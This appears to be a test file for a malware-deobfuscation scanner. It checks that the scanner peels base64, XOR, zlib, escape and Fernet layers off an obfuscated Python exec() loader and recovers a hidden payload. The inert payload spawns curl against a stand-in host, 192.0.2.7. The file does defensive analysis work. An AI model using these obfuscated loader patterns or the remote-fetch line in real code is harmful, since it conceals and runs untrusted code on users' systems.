import { createCipheriv, createHmac } from "node:crypto";
import { deflateSync } from "node:zlib";
import { afterAll, describe, expect, test } from "vitest";
import { runOnBench } from "../../../../main/api/workshop/bench-calls.ts";
import { benchInput } from "../../../../main/api/workshop/bench-input.ts";
import { layerSteps, withScanWay } from "../../../../main/api/workshop/layer-steps.ts";
import { stringTokens } from "../../../../main/api/workshop/string-tokens.ts";
import { traceCall } from "../../../../main/api/workshop/trace-call.ts";
import { createWorkshops } from "../../../../main/api/workshop/workshop.ts";
import type { CaseFile } from "../../../../main/model/case/case.ts";
import { createScanPool } from "../../../../main/scan/scan-pool.ts";

const pool = createScanPool({ jobs: 1 });
const workshops = createWorkshops();
afterAll(async () => {
	await pool.close();
	await Promise.all(Object.values(workshops).map((workshop) => workshop.close()));
});

/** Inert; nothing of it ever runs. */
const HIDDEN = `import subprocess\nsubprocess.Popen(["curl", "http://192.0.2.7/next"])\nprint("a frog", "another frog")\n`;
const file: CaseFile = { schema: "vivarium-case/4", artifactId: "", filename: "", log: [], seen: [] };
const context = { workshop: workshops.bench, file, signal: undefined };

function xor(bytes: Uint8Array, key: string): Buffer {
	return Buffer.from(bytes.map((byte, index) => byte ^ key.charCodeAt(index % key.length)));
}

function fernet(key: Buffer, text: string): string {
	const cipher = createCipheriv("aes-128-cbc", key.subarray(16), Buffer.alloc(16, 7));
	const head = Buffer.concat([Buffer.from([0x80]), Buffer.alloc(8), Buffer.alloc(16, 7)]);
	const body = Buffer.concat([head, cipher.update(text), cipher.final()]);
	const tag = createHmac("sha256", key.subarray(0, 16)).update(body).digest();
	return Buffer.concat([body, tag])
		.toString("base64url")
		.padEnd(Math.ceil((body.length + 32) / 3) * 4, "=");
}

async function wayOf(source: string) {
	const scanned = await pool.scan({ kind: "text", text: source, filename: "frog.py" });
	const layer = scanned.analysis.layers.find(({ kind, size }) => kind === "python" && size === HIDDEN.length);
	if (layer === undefined) throw new Error(JSON.stringify(scanned.analysis.layers));
	return { scanned, layer, way: await layerSteps(scanned, layer.id, context) };
}

const LOOP = `def undo(data, key):
    return "".join(chr(c ^ ord(key[i % len(key)])) for i, c in enumerate(data))
`;
const escaped = (bytes: Uint8Array): string =>
	[...bytes].map((byte) => `\\x${byte.toString(16).padStart(2, "0")}`).join("");
const encoded = xor(Buffer.from(HIDDEN), "marsh");
const key = Buffer.alloc(32, 9);

const cases: readonly (readonly [string, string, readonly string[], RegExp])[] = [
	[
		"a key that a loop computes with",
		`import base64\n${LOOP}exec(undo(base64.b64decode("${encoded.toString("base64")}"), "marsh"))\n`,
		["base64", "xor"],
		/"key","value":"marsh"/,
	],
	[
		"one byte for all",
		`import base64\nexec(bytes([b ^ 0x5a for b in base64.b64decode("${xor(Buffer.from(HIDDEN), "Z").toString("base64")}")]))\n`,
		["base64", "xor"],
		/"value":"Z"/,
	],
	[
		"a stream behind a key",
		`import base64, zlib\nKEY = "marsh"\nexec(zlib.decompress(bytes(b ^ ord(KEY[i % len(KEY)]) for i, b in enumerate(base64.b64decode("${xor(deflateSync(HIDDEN), "marsh").toString("base64")}")))))\n`,
		["base64", "xor", "zlib"],
		/"value":"marsh"/,
	],
	[
		"bytes written as escapes",
		`import zlib\nexec(zlib.decompress(b"${escaped(deflateSync(HIDDEN))}"))\n`,
		["escape", "zlib"],
		/^/,
	],
	[
		"Fernet",
		`from cryptography.fernet import Fernet\nexec(Fernet(b"${key.toString("base64url").padEnd(44, "=")}").decrypt(b"${fernet(key, HIDDEN)}"))\n`,
		["fernet"],
		/"name":"key","value":"CQkJ/,
	],
	[
		"a way told whole",
		`import base64\nexec(base64.b64decode("${Buffer.from(HIDDEN).toString("base64")}"))\n`,
		["base64"],
		/"options":\[\]/,
	],
];

describe("the way that the scan went", () => {
	test.each(cases)("is told with %s, and gives the layer", async (_, source, transforms, told) => {
		const { scanned, layer, way } = await wayOf(source);
		expect(way).toMatchObject({ agrees: true, source: { kind: "text", documentId: layer.memberId } });
		expect(way.steps.map(({ transform }) => transform)).toEqual(transforms);
		expect(JSON.stringify(way.steps)).toMatch(told);
		const result = await runOnBench(workshops.bench, await benchInput(scanned, way.source), way.steps, undefined);
		expect(result.steps.at(-1)).toMatchObject({ state: "done", output: { text: HIDDEN } });
	});

	test("begins with all pieces of a literal that is put together", async () => {
		const text = Buffer.from(HIDDEN).toString("base64");
		const { way } = await wayOf(
			`import base64\nexec(base64.b64decode("${text.slice(0, 30)}"\n    '${text.slice(30)}'))\n`,
		);
		expect(way).toEqual({
			source: { kind: "typed", text },
			steps: [{ transform: "base64", options: [] }],
			agrees: true,
		});
	});

	test("is the first suggestion for that literal, as far as it is not gone yet, and for no other", async () => {
		const { scanned, way } = await wayOf(cases[0]?.[1] ?? "");
		const run = async (source: typeof way.source, steps: typeof way.steps) => {
			const result = await runOnBench(workshops.bench, await benchInput(scanned, source), steps, undefined);
			return (await withScanWay(scanned, { source, steps }, result, context)).suggestions;
		};
		expect((await run(way.source, []))[0]).toMatchObject({ steps: way.steps, score: 100 });
		expect((await run(way.source, way.steps.slice(0, 1)))[0]).toMatchObject({ steps: way.steps.slice(1) });
		const elsewhere = way.source.kind === "text" ? { ...way.source, end: way.source.end - 8 } : way.source;
		expect(JSON.stringify(await run(elsewhere, []))).not.toContain("the scan went");
	});

	test("of what was kept by hand is the way that was kept", async () => {
		const { scanned, layer } = await wayOf(cases[5]?.[1] ?? "");
		const source = { kind: "text", documentId: "__proto__", start: 1, end: 2 } as const;
		const steps = [{ transform: "rot13", options: [] }];
		const action = { kind: "keep" as const, source, steps };
		const kept = { ...file, log: [{ sequence: 4, author: "", at: "", action }] };
		const marked = { ...scanned, analysis: { ...scanned.analysis, layers: [{ ...layer, entry: 4 }] } };
		const way = await layerSteps(marked, layer.id, { ...context, file: kept });
		expect(way).toEqual({ source: { ...source, documentId: layer.memberId }, steps, agrees: true });
	});

	test("says so where it is not found, and refuses what is no layer", async () => {
		const { scanned, layer } = await wayOf(cases[5]?.[1] ?? "");
		const wrong = { ...layer, chain: [{ ...layer.chain[0], transform: "hex", inputLength: 1, outputLength: 1 }] };
		const broken = { ...scanned, analysis: { ...scanned.analysis, layers: [wrong] } };
		expect(await layerSteps(broken, layer.id, context)).toMatchObject({ agrees: false, steps: [{ transform: "hex" }] });
		await expect(layerSteps(scanned, "constructor", context)).rejects.toMatchObject({ code: "unknown-id" });
	});
});

test("a stretch of a layer stands in its literal, and the other way round, in offsets of the documents", async () => {
	const { scanned, way } = await wayOf(cases[0]?.[1] ?? "");
	const trace = (level: number, start: number, end: number) =>
		traceCall(scanned, { ...way, level, unit: "text", start, end }, { workshop: workshops.bench, signal: undefined });
	const start = HIDDEN.indexOf("curl");
	const levels = await trace(2, start, start + 4);
	const member = await scanned.document(way.source.kind === "text" ? way.source.documentId : "");
	const [from, to] = [levels[0]?.text, levels[2]?.text];
	expect(to).toEqual({ start, end: start + 4 });
	const piece = member?.document.text.slice(from?.start, from?.end) ?? "";
	expect(encoded.toString("base64")).toContain(piece);
	expect(piece.length).toBeLessThan(9);
	const begin = way.source.kind === "text" ? way.source.start : 0;
	const back = (await trace(0, (from?.start ?? 0) - begin, (from?.end ?? 0) - begin))[2]?.text;
	expect(HIDDEN.slice(back?.start, back?.end)).toContain("curl");
	expect(
		await traceCall(
			scanned,
			{ source: way.source, steps: [{ transform: "gzip", options: [] }], level: 0, unit: "text", start: 0, end: 1 },
			{ workshop: workshops.bench, signal: undefined },
		),
	).toEqual([]);
});

test("literals in a piece of source are told apart, whatever it is", () => {
	const texts = (source: string): string[] => stringTokens(source).map(({ start, end }) => source.slice(start, end));
	expect(texts(`f(b'a\\'b', r"c" '''d\n'e''' # "no"\n"g`)).toEqual(["a\\'b", "c", "d\n'e", "g"]);
	expect(texts("")).toEqual([]);
	expect(texts("'".repeat(50_001)).length).toBeLessThanOrEqual(20_000);
	expect(texts("\\")).toEqual([]);
});
